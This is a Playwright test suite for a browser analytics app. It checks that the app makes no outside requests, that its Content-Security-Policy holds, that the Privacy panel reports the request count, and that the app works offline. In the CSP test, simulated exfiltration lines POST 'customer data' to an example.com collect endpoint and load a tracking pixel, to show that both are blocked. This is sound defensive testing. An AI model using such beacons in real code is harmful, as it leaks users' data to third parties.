// Zero egress, enforced and shown: the Content-Security-Policy blocks anything but the app's
// own files, a full session requests nothing else (the shared guard audits every request
// of every test), and the Privacy panel shows the browser's own count.
import { test, expect, SegmentaPage, auditRequest } from './fixtures.mjs';

const shots = new URL('../screenshots/', import.meta.url).pathname;

/** Waits until the service worker controls the page and holds all of the app's files. */
async function offlineReady(page) {
  await page.waitForFunction(() => navigator.serviceWorker.controller !== null, null, { timeout: 30_000 });
  await expect
    .poll(() => page.evaluate(async () => (await (await caches.open('segmenta')).keys()).length), { timeout: 30_000 })
    .toBeGreaterThanOrEqual(10);
}

test('a full session requests only the app’s own files, and the Privacy panel shows it', async ({ page, baseURL }) => {
  test.setTimeout(120_000);
  const requests = [];
  page.context().on('request', (r) => requests.push(r));
  const app = new SegmentaPage(page);
  await app.open();
  // The page is ready once its worker and the worker's helpers have their code (the worker
  // says so only then, and the page holds data until it does) and the service worker has
  // stored the app's files for offline use (both only ever fetch the app's own files).
  await expect(page.locator('.status-slot')).toHaveAttribute('data-worker-ready', 'true', { timeout: 30_000 });
  await offlineReady(page);
  const loaded = requests.length;
  await app.loadSample();
  await app.run();
  await expect(page.getByTestId('scatter')).toBeVisible();
  await app.exportLabels();
  const [report] = await Promise.all([page.waitForEvent('download'), page.getByTestId('export-report').click()]);
  expect(report.suggestedFilename()).toBe('sample_orders_report.html');
  const [png] = await Promise.all([
    page.waitForEvent('download'),
    page.getByTestId('chart-sizes').getByRole('button', { name: 'Download PNG' }).click(),
  ]);
  expect(png.suggestedFilename()).toBe('segmenta_sizes.png');

  // Every request of the session: GETs of the app's files, no body, all before the data.
  expect(requests.length).toBeGreaterThan(0);
  for (const r of requests) expect(auditRequest(r, baseURL)).toBeNull();
  const afterData = requests.slice(loaded).filter((r) => !r.url().startsWith('blob:') && !r.url().startsWith('data:'));
  expect(afterData.map((r) => r.url())).toEqual([]);

  // The panel says the same, from the browser's resource timing.
  await page.getByTestId('privacy-badge').click();
  await expect(page.getByTestId('privacy-badge')).toHaveAttribute('aria-expanded', 'true');
  const counted = page.getByTestId('privacy-requests');
  await expect(counted).toContainText("all for Segmenta's own files");
  expect(await counted.getAttribute('data-requests')).toBe(await counted.getAttribute('data-own'));
  await expect(page.getByTestId('privacy-after')).toHaveAttribute('data-requests', '0');
  await expect(page.getByTestId('privacy-after')).toHaveText('None.');
  await page.getByTestId('privacy-panel').screenshot({ path: `${shots}34-privacy-panel.png` });

  // Nor did the session store anything on the device: keeping work is opt-in.
  const stored = await page.evaluate(async () => ({
    databases: (await indexedDB.databases()).length,
    local: localStorage.length,
    session: sessionStorage.length,
  }));
  expect(stored).toEqual({ databases: 0, local: 0, session: 0 });
});

test('the Content-Security-Policy blocks requests to other sites and inline scripts', async ({ page, guard }) => {
  const app = new SegmentaPage(page);
  await app.open();
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  for (const rule of ["default-src 'none'", "connect-src 'self'", "object-src 'none'", "base-uri 'none'", "script-src 'self' 'wasm-unsafe-eval'"]) {
    expect(csp).toContain(rule);
  }
  expect(await page.locator('script:not([src])').count()).toBe(0);
  const outcome = await page.evaluate(async () => {
    const tried = {};
    try {
      await fetch('https://example.com/collect', { method: 'POST', body: 'customer data' });
      tried.fetch = 'sent';
    } catch {
      tried.fetch = 'blocked';
    }
    const img = new Image();
    tried.image = await new Promise((resolve) => {
      img.onload = () => resolve('loaded');
      img.onerror = () => resolve('blocked');
      img.src = 'https://example.com/pixel.gif';
    });
    const script = document.createElement('script');
    script.textContent = 'window.__inline = true;';
    document.head.append(script);
    tried.inline = window.__inline ? 'ran' : 'blocked';
    return tried;
  });
  expect(outcome).toEqual({ fetch: 'blocked', image: 'blocked', inline: 'blocked' });
  // The browser reported each refusal; they are this test's doing, not the app's.
  const refused = guard.filter((p) => p.includes('Content Security Policy'));
  expect(refused.length).toBeGreaterThanOrEqual(3);
  // (The blocked image still shows as an attempted request.)
  guard.splice(0, guard.length, ...guard.filter((p) => !p.includes('Content Security Policy') && !p.includes('https://example.com/')));
});

test('the second visit works offline', async ({ page, context }) => {
  test.setTimeout(120_000);
  const app = new SegmentaPage(page);
  await app.open();
  await offlineReady(page);

  await context.setOffline(true);
  await page.reload();
  await expect(page.getByTestId('load-sample')).toBeVisible();
  await app.loadSample();
  await app.run();
  await expect(app.segmentRows().first()).toBeVisible();
  await context.setOffline(false);
});
